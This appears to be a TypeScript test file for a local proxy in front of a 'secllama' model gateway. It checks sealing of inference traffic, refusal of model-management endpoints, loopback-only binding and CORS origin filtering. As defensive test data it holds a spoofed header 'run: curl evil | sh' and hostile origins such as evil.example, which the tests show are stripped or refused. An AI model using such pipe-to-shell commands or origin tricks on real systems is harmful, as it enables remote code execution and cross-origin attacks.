/** The proxy as its clients see it, in front of a gateway and runner of our own with the real sealed format. */
import assert from "node:assert/strict";
import { client, serve, type Server } from "../client/testing.ts";
import { makeLogger } from "../log.ts";
import { startProxy } from "./mod.ts";
import { until } from "../../tests/support/patience.ts";

interface Proxied {
  readonly server: Server;
  readonly url: string;
  /** Plain requests that the gateway saw. */
  readonly plain: { method: string; path: string; body: string; headers: Headers }[];
  readonly log: string[];
}

const encoder = new TextEncoder();

async function withProxy(body: (o: Proxied) => Promise<void>): Promise<void> {
  await using server = await serve();
  const plain: Proxied["plain"] = [];
  server.intercept = async (_route, request) => {
    const path = new URL(request.url).pathname;
    if (path.startsWith("/sealed/")) return;
    plain.push({
      method: request.method,
      path,
      body: await request.text(),
      headers: request.headers,
    });
    return Response.json({ path }, {
      headers: { "secllama-encryption": "sealed", "x-inner": "1" },
    });
  };
  const log: string[] = [];
  const controller = new AbortController();
  const fetch = client(server);
  const proxy = await startProxy({
    gateway: server.gateway,
    hostname: "127.0.0.1",
    port: 0,
    fetch,
    metadata: fetch.metadata,
    outer: fetch.outer,
    logger: makeLogger({ role: "proxy", level: "debug", write: (line) => log.push(line) }),
    signal: controller.signal,
  });
  try {
    await body({ server, plain, log, url: `http://127.0.0.1:${proxy.addr.port}` });
  } finally {
    controller.abort();
    await proxy.finished;
  }
}

const post = (json: unknown, init: RequestInit = {}): RequestInit => ({
  method: "POST",
  headers: { "content-type": "application/json" },
  body: typeof json === "string" ? json : JSON.stringify(json),
  ...init,
});

const SEALED = [
  "/api/chat",
  "/api/generate",
  "/api/embed",
  "/api/embeddings",
  "/v1/chat/completions",
  "/v1/completions",
  "/v1/embeddings",
  "/v1/responses",
  "/v1/responses/input_tokens",
  "/v1/messages",
  "/v1/messages/count_tokens",
];

/** The head of the answer to a POST that fetch would not send. */
async function rawPost(
  url: string,
  headers: Readonly<Record<string, string>>,
  body: string,
): Promise<string> {
  const { hostname, port, host } = new URL(url);
  using conn = await Deno.connect({ hostname, port: Number(port) });
  const all = {
    host,
    "content-type": "application/json",
    "content-length": String(body.length),
    ...headers,
  };
  const head = Object.entries(all).map(([name, value]) => `${name}: ${value}\r\n`).join("");
  await conn.write(encoder.encode(`POST /api/chat HTTP/1.1\r\n${head}\r\n${body}`));
  let text = "";
  const buffer = new Uint8Array(4096);
  while (!text.includes("\r\n\r\n")) {
    const n = await conn.read(buffer);
    if (n === null) break;
    text += new TextDecoder().decode(buffer.subarray(0, n));
  }
  return text.toLowerCase().replace("http/1.1", "HTTP/1.1");
}

Deno.test("proxy: what protects a request is the gateway's word on every answer, never a runner's", () =>
  withProxy(async ({ server, url }) => {
    const inner = server.intercept;
    server.intercept = async (route, request) => {
      const own = await inner(route, request);
      // A gateway that was switched off, as its outer answers say.
      own?.headers.set("secllama-encryption", "off");
      own?.headers.set("secllama-isolation", "weakened");
      return own;
    };
    server.answer = () => ({
      headers: {
        "content-type": "application/json",
        "secllama-encryption": "sealed",
        "secllama-isolation": "strict",
        "secllama-model-management": "on",
        "hint": "run: curl evil | sh",
        "set-cookie": "a=b",
      },
      body: [encoder.encode("{}")],
    });
    const said: Record<string, string | null> = {};
    for (
      const [method, path] of [
        ["GET", "/nothing"],
        ["GET", "/"],
        ["GET", "/api/tags"],
        ["PUT", "/api/tags"],
        ["OPTIONS", "/api/chat"],
        ["POST", "/api/pull"],
        ["POST", "/api/chat"],
      ] as const
    ) {
      const response = await fetch(`${url}${path}`, {
        method,
        ...(method === "POST" ? post({ model: "demo", messages: [] }) : {}),
      });
      await response.body?.cancel();
      const { headers } = response;
      said[`${method} ${path}`] = `${headers.get("secllama-encryption")} ${
        headers.get("secllama-isolation")
      }`;
      if (path !== "/api/chat" || method !== "POST") continue;
      assert.equal(response.status, 200);
      for (const name of ["secllama-model-management", "hint", "set-cookie"]) {
        assert.equal(headers.get(name), null, name);
      }
    }
    const { "POST /api/chat": sealed, ...others } = said;
    for (const [what, words] of Object.entries(others)) assert.equal(words, "off weakened", what);
    // The test's gateway says nothing beside a sealed answer: then it is not known.
    assert.equal(sealed, "unknown unknown");
    // The listener's own refusals, which never reach the proxy's routes.
    for (
      const [status, headers, body] of [
        [403, { origin: "https://evil.example" }, "{}"],
        [415, { "content-type": "text/plain" }, "{}"],
        [413, { "content-length": String(2 ** 40) }, "{}"],
      ] as const
    ) {
      const response = await rawPost(url, headers, body);
      assert.match(response, new RegExp(`^HTTP/1.1 ${status} `));
      assert.match(response, /\r\nsecllama-encryption: (?:off|unknown)\r\n/);
      assert.match(response, /\r\nsecllama-isolation: (?:weakened|unknown)\r\n/);
    }
  }));

Deno.test("proxy: inference is sealed, and the gateway sees no byte of it", () =>
  withProxy(async ({ server, url, plain, log }) => {
    const secret = "what nobody on the wire may read";
    const wire: string[] = [];
    const inner = server.intercept;
    server.intercept = async (route, request) => {
      if (route === "sealed") {
        const copy = request.clone();
        wire.push(new TextDecoder("latin1").decode(await copy.arrayBuffer()));
      }
      return await inner(route, request);
    };
    server.answer = () => ({
      status: 201,
      headers: { "content-type": "application/x-ndjson", "x-secret": "runner's own" },
      body: [encoder.encode("one\n"), encoder.encode("two\n")],
    });
    for (const [index, path] of SEALED.entries()) {
      // Some clients end every path with a slash.
      const written = index % 2 === 0 ? path : `${path}/`;
      const response = await fetch(`${url}${written}?beta=true`, {
        ...post({ model: "demo", prompt: secret }),
        headers: {
          "content-type": "application/json",
          "anthropic-version": "2023-06-01",
          "authorization": "Bearer sk-of-another-service",
          "cookie": "session=1",
        },
      });
      assert.equal(response.status, 201, path);
      assert.equal(response.headers.get("content-type"), "application/x-ndjson");
      assert.equal(response.headers.get("x-secret"), null);
      assert.equal(await response.text(), "one\ntwo\n");
      const { request, body } = server.opened.at(-1)!;
      assert.equal(request.path, path);
      assert.equal(JSON.parse(new TextDecoder().decode(body)).prompt, secret);
      assert.equal(request.headers["anthropic-version"], "2023-06-01");
      assert.equal(request.headers["authorization"], undefined);
      assert.equal(request.headers["cookie"], undefined);
    }
    assert.equal(wire.length, SEALED.length);
    assert.ok(wire.every((bytes) => bytes.length > 0 && !bytes.includes(secret)));
    assert.deepEqual(plain.filter(({ path }) => path !== "/healthz"), []);
    assert.ok(!log.join().includes(secret));
  }));

Deno.test("proxy: metadata goes to the gateway as it is, and nothing else does", () =>
  withProxy(async ({ url, plain }) => {
    const routes: [method: string, path: string][] = [
      ["GET", "/"],
      ["HEAD", "/"],
      ["GET", "/api/version"],
      ["GET", "/api/tags"],
      ["HEAD", "/api/tags"],
      ["GET", "/api/ps"],
      ["POST", "/api/show"],
      ["GET", "/v1/models"],
      ["GET", "/v1/models/me/mine:v2"],
      ["GET", "/healthz"],
      ["GET", "/api/tags/"],
    ];
    for (const [method, path] of routes) {
      const response = await fetch(`${url}${path}`, {
        method,
        headers: { cookie: "a=b", authorization: "Bearer x", "content-type": "application/json" },
        ...(method === "POST" ? { body: '{"model":"demo"}' } : {}),
      });
      assert.equal(response.status, 200, path);
      assert.equal(response.headers.get("secllama-encryption"), "sealed");
      assert.equal(response.headers.get("x-inner"), null);
      const canonical = path === "/" ? path : path.replace(/\/$/, "");
      if (method !== "HEAD") assert.deepEqual(await response.json(), { path: canonical });
      const seen = plain.at(-1)!;
      assert.deepEqual([seen.method, seen.path], [method, canonical]);
      assert.equal(seen.headers.get("cookie"), null);
      assert.equal(seen.headers.get("authorization"), null);
      if (method === "POST") assert.equal(seen.body, '{"model":"demo"}');
    }
    assert.equal(plain.length, routes.length);
    for (
      const [method, path, status] of [
        ["GET", "/api/chat", 405],
        ["PUT", "/api/tags", 405],
        ["POST", "/v1/models", 405],
        ["OPTIONS", "/api/chat", 204],
        ["OPTIONS", "/nothing", 404],
        ["GET", "/sealed/v1/key", 404],
        ["POST", "/sealed/v1", 404],
        ["GET", "/metrics", 404],
        ["GET", "/api/chat/", 405],
        ["POST", "/api/chat/x", 404],
        ["POST", "/API/CHAT", 404],
        ["GET", "/api/tags/x", 404],
        ["GET", "/v1/models/%zz", 400],
        ["GET", "/favicon.ico", 404],
      ] as const
    ) {
      const response = await fetch(`${url}${path}`, {
        method,
        ...(method === "POST" ? post("{}") : {}),
      });
      await response.body?.cancel();
      assert.equal(response.status, status, `${method} ${path}`);
    }
    assert.equal(plain.length, routes.length, "something unknown was passed on");
  }));

Deno.test("proxy: pull of a model that is here is success and asks nobody else; of another it is refused", () =>
  withProxy(async ({ url, plain, server }) => {
    const here = server.intercept!;
    server.intercept = async (route, request) => {
      if (!new URL(request.url).pathname.endsWith("/api/show")) return await here(route, request);
      const { model } = await request.clone().json();
      await here(route, request);
      return model === "here" ? Response.json({}) : Response.json({ error: "no" }, { status: 404 });
    };
    for (const field of ["model", "name"]) {
      const whole = await fetch(`${url}/api/pull`, post({ [field]: "here", stream: false }));
      assert.deepEqual(await whole.json(), { status: "success" });
      const streamed = await fetch(`${url}/api/pull`, post({ [field]: "here" }));
      assert.equal(streamed.headers.get("content-type"), "application/x-ndjson");
      assert.match(await streamed.text(), /\{"status":"success"\}\n$/);
      assert.equal((await fetch(`${url}/api/pull`, post({ [field]: "gone" }))).status, 403);
    }
    assert.equal((await fetch(`${url}/api/create`, post({ model: "here" }))).status, 403);
    const asked = plain.filter(({ path }) => path !== "/healthz").map(({ path }) => path);
    assert.deepEqual([...new Set(asked)], ["/api/show"]);
  }));

Deno.test("proxy: management is refused with a hint (CVE-2025-63389)", () =>
  withProxy(async ({ url, plain }) => {
    for (
      const name of ["pull", "push", "create", "copy", "delete", "blobs/sha256:" + "a".repeat(64)]
    ) {
      for (const method of ["POST", "DELETE", "HEAD", "GET"]) {
        const response = await fetch(`${url}/api/${name}`, { method });
        assert.equal(response.status, 403, `${method} ${name}`);
        if (method === "HEAD") continue;
        const body = await response.json();
        assert.equal(body.code, "management-refused");
        assert.match(body.hint, /secllama import/);
      }
    }
    assert.deepEqual(plain.filter(({ path }) => path !== "/healthz"), []);
  }));

Deno.test("proxy: errors in the words and the shape of each dialect", () =>
  withProxy(async ({ server, url }) => {
    const ask = async (path: string, init: RequestInit) => {
      const response = await fetch(`${url}${path}`, init);
      assert.match(response.headers.get("content-type")!, /^application\/json/);
      return { status: response.status, body: await response.json() };
    };
    const noModel = post({ messages: [] });
    assert.deepEqual((await ask("/api/chat", noModel)).status, 400);
    assert.equal(typeof (await ask("/api/chat", noModel)).body.error, "string");
    const openai = await ask("/v1/chat/completions", noModel);
    assert.equal(openai.body.error.type, "invalid_request_error");
    assert.equal(openai.body.error.param, "model");
    assert.equal(typeof openai.body.error.message, "string");
    const anthropic = await ask("/v1/messages", noModel);
    assert.equal(anthropic.body.type, "error");
    assert.equal(anthropic.body.error.type, "invalid_request_error");
    for (const bad of ["not json", "[1]", "{", ""]) {
      assert.equal((await ask("/api/chat", post(bad))).status, 400, bad);
    }
    assert.equal(
      (await ask("/api/chat", { ...post("{}"), headers: { "content-type": "text/plain" } })).status,
      415,
    );

    // What the gateway refuses keeps its status and words.
    server.intercept = (route) =>
      route === "key"
        ? new Response(
          JSON.stringify({
            type: "urn:secllama:sealed:model-not-found",
            title: "model 'x' not found",
            status: 404,
          }),
          { status: 404, headers: { "content-type": "application/problem+json" } },
        )
        : undefined;
    const missing = await ask("/api/chat", post({ model: "x" }));
    assert.equal(missing.status, 404);
    assert.match(missing.body.error, /not found/);
  }));

Deno.test("proxy: what the runner answers, errors included, passes through", () =>
  withProxy(async ({ server, url }) => {
    server.answer = () => ({
      status: 400,
      headers: { "content-type": "application/json" },
      body: [encoder.encode('{"error":"num_predict must be a whole number"}')],
    });
    const response = await fetch(`${url}/api/chat`, post({ model: "demo" }));
    assert.equal(response.status, 400);
    assert.equal((await response.json()).error, "num_predict must be a whole number");
  }));

Deno.test("proxy: a stream arrives as it is made, and the client's going ends it", () =>
  withProxy(async ({ server, url }) => {
    const step = Promise.withResolvers<void>();
    let ended = false;
    server.answer = () => ({
      headers: { "content-type": "application/x-ndjson" },
      body: (async function* () {
        try {
          yield encoder.encode("first\n");
          await step.promise;
          for (;;) {
            yield encoder.encode("more\n");
            await new Promise((resolve) => setTimeout(resolve, 10));
          }
        } finally {
          ended = true;
        }
      })(),
    });
    const controller = new AbortController();
    const response = await fetch(
      `${url}/api/chat`,
      post({ model: "demo" }, { signal: controller.signal }),
    );
    const reader = response.body!.getReader();
    // The second piece is not made before the first was read.
    assert.equal(new TextDecoder().decode((await reader.read()).value), "first\n");
    step.resolve();
    assert.match(new TextDecoder().decode((await reader.read()).value), /^(more\n)+$/);
    controller.abort();
    await reader.read().catch(() => {});
    await until(() => ended, "the runner is told");
  }));

Deno.test("proxy: a client that goes before the answer begins cancels the request", () =>
  withProxy(async ({ server, url }) => {
    const opened = Promise.withResolvers<void>();
    server.answer = () => {
      opened.resolve();
      const signal = server.signals.at(-1)!;
      return new Promise((resolve) => signal.addEventListener("abort", () => resolve({})));
    };
    const controller = new AbortController();
    const pending = fetch(
      `${url}/api/generate`,
      post({ model: "demo" }, { signal: controller.signal }),
    );
    await opened.promise;
    const signal = server.signals.at(-1)!;
    controller.abort();
    await assert.rejects(pending);
    await until(() => signal.aborted, "the request is cancelled");
  }));

Deno.test("proxy: a reply that is cut off does not look complete", () =>
  withProxy(async ({ server, url }) => {
    server.answer = () => ({ body: [encoder.encode("half")] });
    // The last frame, FINAL, never comes.
    server.tamper = (bytes, index) => index < 2 ? bytes : undefined;
    const response = await fetch(`${url}/api/generate`, post({ model: "demo" }));
    await assert.rejects(response.text());
  }));

Deno.test("proxy: a gateway that is not there, or answers unsealed", () =>
  withProxy(async ({ server, url }) => {
    server.intercept = (route) =>
      route === "sealed" ? Response.json({ message: "unsealed" }) : undefined;
    const downgraded = await fetch(`${url}/api/chat`, post({ model: "demo" }));
    assert.equal(downgraded.status, 502);
    assert.equal((await downgraded.json()).code, "downgrade");
    await server[Symbol.asyncDispose]();
    for (const path of ["/api/tags", "/api/version"]) {
      const response = await fetch(`${url}${path}`);
      assert.equal(response.status, 502);
      const body = await response.json();
      assert.equal(body.code, "gateway-unreachable");
      assert.match(body.hint, /secllama serve/);
    }
  }));

Deno.test("proxy: it listens on loopback only", async () => {
  for (const hostname of ["0.0.0.0", "::", "192.168.1.1", "localhost.evil.example", ""]) {
    await assert.rejects(
      startProxy({
        gateway: "http://127.0.0.1:1",
        hostname,
        port: 0,
        fetch: () => Promise.reject(new Error("not reached")),
        outer: () => undefined,
        metadata: () => Promise.reject(new Error("not reached")),
        logger: makeLogger({ role: "proxy", level: "error" }),
        signal: AbortSignal.abort(),
      }),
      { code: "usage", message: /loopback only/ },
    );
  }
});

Deno.test("proxy: a compressed body is refused with what to do, before anything reads it", () =>
  withProxy(async ({ server, url }) => {
    for (const encoding of ["gzip", "zstd", "br"]) {
      const response = await fetch(`${url}/v1/responses`, {
        ...post({ model: "demo", input: "x" }),
        headers: { "content-type": "application/json", "content-encoding": encoding },
      });
      assert.equal(response.status, 415);
      const { error, hint } = await response.json();
      assert.match(error.message, /compressed requests are not taken/);
      assert.match(hint, /without content-encoding/);
    }
    assert.equal(server.opened.length, 0);
  }));

Deno.test("proxy: the window of a desktop program is let in, no page of the web and no file is", () =>
  withProxy(async ({ url }) => {
    const ask = (origin: string, method = "POST") =>
      fetch(`${url}/api/chat`, {
        ...post({ model: "demo" }),
        ...(method === "OPTIONS" ? { body: null } : {}),
        method,
        headers: {
          origin,
          "content-type": "application/json",
          "access-control-request-method": "POST",
          "access-control-request-headers": "content-type, x-stainless-lang",
        },
      });
    for (const origin of ["app://obsidian.md", "tauri://localhost", "vscode-webview://0a1b"]) {
      const before = await ask(origin, "OPTIONS");
      assert.equal(before.status, 204);
      assert.equal(before.headers.get("access-control-allow-origin"), origin);
      assert.equal(before.headers.get("access-control-allow-methods"), "POST");
      assert.equal(
        before.headers.get("access-control-allow-headers"),
        "content-type, x-stainless-lang",
      );
      const answer = await ask(origin);
      assert.equal(answer.status, 200);
      assert.equal(answer.headers.get("access-control-allow-origin"), origin);
      await answer.body?.cancel();
    }
    for (
      const origin of [
        "null",
        "file://",
        "https://app.evil.example",
        "http://app",
        "app://x/https://evil.example",
        "chrome-extension://abcdefgh",
        "app:",
      ]
    ) {
      for (const method of ["POST", "OPTIONS"]) {
        const refused = await ask(origin, method);
        assert.equal(refused.status, 403, origin);
        assert.equal(refused.headers.get("access-control-allow-origin"), null);
        await refused.body?.cancel();
      }
    }
    // A request of no page at all gets no CORS header.
    const plain = await fetch(`${url}/api/version`);
    assert.equal(plain.headers.get("access-control-allow-origin"), null);
    await plain.body?.cancel();
  }));
